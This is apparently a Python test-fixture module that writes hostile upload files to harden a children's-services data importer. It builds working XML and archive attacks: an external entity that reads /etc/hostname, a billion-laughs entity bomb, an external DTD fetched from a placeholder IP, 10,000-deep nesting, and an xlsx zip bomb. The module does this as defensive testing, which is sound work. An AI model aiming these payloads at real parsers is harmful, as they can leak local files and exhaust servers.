"""Files built to attack an importer: what the hostile-upload tests and ``bench/hostile_uploads.py``
feed through the import pipeline. Each writer makes the smallest file that shows its trick.

Nothing here is real data; the CIN census frame around the XML tricks is only there so the file
is recognised as one, and so reaches the importer rather than stopping at recognition.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

__all__ = [
    "HOSTILE",
    "TEMPLATE_HEADER",
    "billion_laughs",
    "deep_nesting",
    "empty",
    "external_dtd",
    "mostly_nul",
    "template_rows",
    "utf16_without_bom",
    "xlsx_zip_bomb",
    "xxe",
]

TEMPLATE_HEADER = "agency,record_id,start_date,source,child_id,event"
_CIN_OPEN = (
    "<Message><Header><CollectionDetails><Collection>CIN</Collection></CollectionDetails></Header>"
    "<Children><Child><ChildIdentifiers><LAchildID>"
)
_CIN_CLOSE = "</LAchildID></ChildIdentifiers></Child></Children></Message>\n"
SECRET_FILE = "/etc/hostname"  # what an external entity would copy into the import


def template_rows(rows: int, stamp: str = "Incident", ids: str = "P") -> str:
    """A small valid chronology template CSV (one child, ``rows`` events with record ids ``P0``...)."""
    lines = [TEMPLATE_HEADER]
    lines += [f"Police,{ids}{i},04/03/2021,Police records,LA1,{stamp} {i}" for i in range(rows)]
    return "\n".join(lines) + "\n"


def xxe(path: Path, target: str = SECRET_FILE) -> Path:
    """An external entity that would copy a local file (``target``) into a child's ID."""
    path.write_text(
        f'<?xml version="1.0"?>\n<!DOCTYPE Message [<!ENTITY xxe SYSTEM "file://{target}">]>\n'
        f"{_CIN_OPEN}&xxe;{_CIN_CLOSE}"
    )
    return path


def billion_laughs(path: Path) -> Path:
    """Ten levels of ten-fold entities: under 1 KB that would expand to 10^9 'lol's."""
    levels = ['<!ENTITY lol0 "lol">']
    levels += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    path.write_text(f'<?xml version="1.0"?>\n<!DOCTYPE Message [{"".join(levels)}]>\n{_CIN_OPEN}&lol9;{_CIN_CLOSE}')
    return path


def external_dtd(path: Path) -> Path:
    """A DOCTYPE naming a DTD on the network (fetching it would leak that the file was opened)."""
    path.write_text(
        f'<?xml version="1.0"?>\n<!DOCTYPE Message SYSTEM "http://198.51.100.7/cin.dtd">\n{_CIN_OPEN}A1{_CIN_CLOSE}'
    )
    return path


def deep_nesting(path: Path, depth: int = 10_000) -> Path:
    """A CIN census file whose one child is wrapped ``depth`` elements deep."""
    path.write_text(
        '<?xml version="1.0"?>\n<Message><Header><CollectionDetails><Collection>CIN</Collection>'
        "</CollectionDetails></Header><Children>" + "<Child>" * depth + "</Child>" * depth + "</Children></Message>\n"
    )
    return path


def xlsx_zip_bomb(path: Path, inflated_mb: int = 64) -> Path:
    """A real template workbook whose sheet is padded with ``inflated_mb`` MB of spaces: about
    1000 times smaller zipped than unpacked, as zip bombs are."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(TEMPLATE_HEADER.split(","))
    sheet.append(["Police", "P1", "04/03/2021", "Police records", "LA1", "Incident"])
    plain = io.BytesIO()
    book.save(plain)
    padding = b" " * (1024 * 1024)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
                continue
            head, tail = data.split(b"</worksheet>")
            member = zipfile.ZipInfo(info.filename)
            member.compress_type = zipfile.ZIP_DEFLATED
            with bomb.open(member, "w") as part:  # streamed: never all in memory
                part.write(head)
                for _ in range(inflated_mb):
                    part.write(padding)
                part.write(b"</worksheet>" + tail)
    return path


def empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def mostly_nul(path: Path) -> Path:
    """A template header followed by a run of NUL bytes, as a binary file renamed .csv begins."""
    path.write_bytes(TEMPLATE_HEADER.encode() + b"\n" + b"\x00" * 4096 + b"Police,P1\n")
    return path


def utf16_without_bom(path: Path, rows: int = 20) -> Path:
    """The template CSV saved as UTF-16 little-endian with no byte-order mark (a name with 'ł')."""
    path.write_bytes(template_rows(rows, "Incident at Łódź Road", ids="U").encode("utf-16-le"))
    return path


# name of the case -> (file name, writer)
HOSTILE: dict[str, tuple[str, Callable[[Path], Path]]] = {
    "xxe": ("xxe.xml", xxe),
    "billion-laughs": ("laughs.xml", billion_laughs),
    "external-dtd": ("dtd.xml", external_dtd),
    "deep-nesting": ("deep.xml", deep_nesting),
    "xlsx-zip-bomb": ("bomb.xlsx", xlsx_zip_bomb),
    "mostly-nul": ("binary.csv", mostly_nul),
    "empty": ("empty.csv", empty),
}
